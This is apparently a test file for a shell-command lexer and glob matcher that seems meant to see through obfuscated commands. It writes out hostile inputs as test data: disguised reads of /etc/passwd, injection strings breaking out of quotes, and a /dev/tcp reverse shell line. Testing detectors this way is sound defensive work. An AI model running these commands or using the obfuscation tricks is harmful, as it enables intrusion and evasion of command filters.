import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { matchesGlob } from './globs.ts';
import { lexShell, type Quoting } from './lexer.ts';

const words = (text: string, quoting: Quoting = 'none') =>
  lexShell(text, quoting).map((one) => one.words.map((word) => word.text));
const openings = (text: string) => lexShell(text).map(({ opening }) => opening);

describe('lexShell', () => {
  it('splits at operators and says which', () => {
    expect(words('a b;c|d||e&f&&g\nh')).toEqual([['a', 'b'], ['c'], ['d'], ['e'], ['f'], ['g'], ['h']]);
    expect(openings('a b;c|d||e&f&&g\nh')).toEqual(['start', ';', '|', '||', '&', '&&', 'newline']);
  });

  it('undoes quotes and escapes', () => {
    expect(words(`c''at "/etc"/'passwd' w\\ho`)).toEqual([['cat', '/etc/passwd', 'who']]);
    expect(words(`$'\\x63\\141t' "a b"`)).toEqual([['cat', 'a b']]);
  });

  it('takes what is never closed for a character', () => {
    expect(words("don't; it")).toEqual([["don't"], ['it']]);
    expect(words('5" disk; x')).toEqual([['5"', 'disk'], ['x']]);
  });

  it('knows parameters: empty, assigned, cut out, and the separator of fields', () => {
    expect(words(`c$@at$IFS/etc\${IFS}x`)).toEqual([['cat', '/etc', 'x']]);
    expect(words('a=wh;b=oami;$a$b')).toEqual([['a=wh'], ['b=oami'], ['whoami']]);
    expect(words(`cat \${HOME:0:1}etc \${nope:-who}`)).toEqual([['cat', '/etc', 'who']]);
  });

  it('opens up braces', () => {
    expect(words('{cat,/etc/passwd}')).toEqual([['cat', '/etc/passwd']]);
    expect(words('{l,-lh}s')).toEqual([['ls', '-lhs']]);
  });

  it('reads inside substitutions', () => {
    expect(words('x $(id; ls) `who`')).toEqual([['id'], ['ls'], ['who'], ['x']]);
    expect(openings('$(id)<(ls)')).toEqual(['$(', '<(']);
  });

  it('begins inside quotes where the text would stand in them', () => {
    expect(words("x'; id", 'single')).toEqual([['id']]);
    expect(words('x"; $(id)', 'double')).toEqual([['x'], ['id']]);
  });

  it('says where redirections go', () => {
    const [command] = lexShell('sh -i >& /dev/tcp/192.0.2.1/9 0>&1');
    expect(command?.redirects.map(({ operator, target }) => `${operator} ${target}`)).toEqual([
      '>& /dev/tcp/192.0.2.1/9',
      '>& 1',
    ]);
  });

  const SHELLISH = fc.array(
    fc.constantFrom(
      "'",
      '"',
      '`',
      '\\',
      '$',
      '${',
      '$(',
      '(',
      ')',
      '{',
      '}',
      ',',
      ';',
      '|',
      '&',
      '<',
      '>',
      '#',
      '\n',
      ' ',
      'a',
      'IFS',
      '=',
      '$a',
    ),
    { maxLength: 200 },
  );

  it('never throws, and leaves no place outside the text', () => {
    fc.assert(
      fc.property(SHELLISH, fc.constantFrom<Quoting>('none', 'single', 'double'), (pieces, quoting) => {
        const text = pieces.join('');
        for (const { start, end } of lexShell(text, quoting)) {
          expect(start).toBeGreaterThanOrEqual(0);
          expect(end).toBeLessThanOrEqual(text.length);
        }
      }),
    );
    fc.assert(fc.property(fc.string(), (text) => lexShell(text).length >= 0));
  });

  it('gives no more than a bounded multiple of what it was given', () => {
    fc.assert(
      fc.property(SHELLISH, (pieces) => {
        const text = pieces.join('');
        const given = lexShell(text).reduce(
          (sum, { words: held }) => sum + held.reduce((all, word) => all + word.text.length, 0),
          0,
        );
        expect(given).toBeLessThanOrEqual(64 * (text.length + 16));
      }),
    );
  });
});

describe('matchesGlob', () => {
  it('knows question marks, stars and sets', () => {
    expect(matchesGlob('/???/c?t', '/bin/cat')).toBe(true);
    expect(matchesGlob('/e*/p*d', '/etc/passwd')).toBe(true);
    expect(matchesGlob('/[a-f]tc/[!q]asswd', '/etc/passwd')).toBe(true);
    expect(matchesGlob('/*', '/etc/passwd')).toBe(false);
    expect(matchesGlob('/e?c', '/etc/passwd')).toBe(false);
  });
});
